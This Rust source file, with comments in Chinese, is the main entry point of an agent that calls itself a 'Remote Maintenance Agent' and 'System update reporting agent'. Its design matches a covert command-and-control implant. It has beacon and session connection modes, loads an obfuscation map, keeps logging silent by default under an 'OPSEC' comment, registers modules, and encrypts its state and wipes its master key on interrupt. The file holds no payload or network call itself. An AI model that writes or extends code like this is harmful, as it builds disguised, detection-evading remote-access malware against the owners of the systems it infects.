// Remote Maintenance Agent - 主程序入口
//
// 解析启动参数、加载混淆表、装配共享状态与模块注册表，
// 然后把控制权交给模式控制器。中断信号触发优雅收尾：
// 加密状态、清零主密钥、以 0 退出。

use clap::Parser;
use log::{error, info, warn};
use std::path::Path;
use std::sync::Arc;

use update_agent::config::{AgentConfig, ConnectionMode, SharedState};
use update_agent::controller::Controller;
use update_agent::modules::{self, ModuleRegistry};
use update_agent::obfuscation::ObfuscationMap;

/// 启动参数
#[derive(Parser, Debug)]
#[command(name = "update-agent", version, about = "System update reporting agent")]
struct Options {
    /// Path to obfuscation config JSON [optional if env/build default set]
    #[arg(long = "obfuscate")]
    obfuscate: Option<String>,

    /// The primary connection method (session or beacon)
    #[arg(long = "conn", default_value = "beacon")]
    conn: String,

    /// The HMAC key for session authentication
    #[arg(long = "hmac-key")]
    hmac_key: Option<String>,
}

#[tokio::main]
async fn main() {
    // ⚡ OPSEC: 除非显式开启 RUST_LOG，否则保持静默
    if std::env::var("RUST_LOG").is_err() {
        std::env::set_var("RUST_LOG", "off");
    }
    let _ = env_logger::try_init();

    let options = Options::parse();

    info!("========================================");
    info!("========= MAINTENANCE AGENT ============");
    info!("========================================");

    // 混淆表缺失/非法是启动期致命错误
    let obfuscation = match load_obfuscation(options.obfuscate.as_deref()) {
        Ok(map) => Arc::new(map),
        Err(e) => {
            error!("{}", e);
            eprintln!("{}", e);
            std::process::exit(1);
        }
    };

    let mut config = AgentConfig::default();
    config.primary_mode = ConnectionMode::parse(&options.conn);
    config.hmac_key = options.hmac_key.unwrap_or_default();

    // session 为主模式时必须带 HMAC 密钥
    if config.primary_mode == ConnectionMode::Session && config.hmac_key.is_empty() {
        let msg = "HMAC key is required for session mode. Please provide it with the --hmac-key flag.";
        error!("{}", msg);
        eprintln!("{}", msg);
        std::process::exit(1);
    }

    info!("Primary connection method: {:?}", config.primary_mode);

    let state = Arc::new(SharedState::new(config));
    let registry = Arc::new(ModuleRegistry::new());
    modules::register_builtins(&registry).await;

    // 中断/终止信号：加密状态、清零密钥、干净退出
    let signal_state = Arc::clone(&state);
    tokio::spawn(async move {
        wait_for_shutdown_signal().await;
        warn!("Received interrupt signal, performing graceful shutdown...");
        if let Err(e) = signal_state.encrypt_state().await {
            error!("Failed to encrypt state on shutdown: {}", e);
        }
        signal_state.wipe_master_key().await;
        warn!("Graceful shutdown complete");
        std::process::exit(0);
    });

    let controller = match Controller::new(state, registry, obfuscation) {
        Ok(controller) => controller,
        Err(e) => {
            error!("Failed to initialize controller: {}", e);
            std::process::exit(1);
        }
    };

    let exit_code = controller.run().await;

    info!("========================================");
    info!("========= PROGRAM TERMINATED ===========");
    info!("========================================");
    std::process::exit(exit_code);
}

/// 解析并加载混淆表
fn load_obfuscation(flag_value: Option<&str>) -> update_agent::Result<ObfuscationMap> {
    let path = ObfuscationMap::resolve_path(flag_value)?;
    info!("Loading obfuscation config from: {}", path);
    ObfuscationMap::load(Path::new(&path))
}

/// 等待中断/终止信号
async fn wait_for_shutdown_signal() {
    #[cfg(unix)]
    {
        use tokio::signal::unix::{signal, SignalKind};
        let mut terminate = match signal(SignalKind::terminate()) {
            Ok(stream) => stream,
            Err(e) => {
                error!("Failed to install SIGTERM handler: {}", e);
                let _ = tokio::signal::ctrl_c().await;
                return;
            }
        };
        tokio::select! {
            _ = tokio::signal::ctrl_c() => {}
            _ = terminate.recv() => {}
        }
    }

    #[cfg(not(unix))]
    {
        let _ = tokio::signal::ctrl_c().await;
    }
}
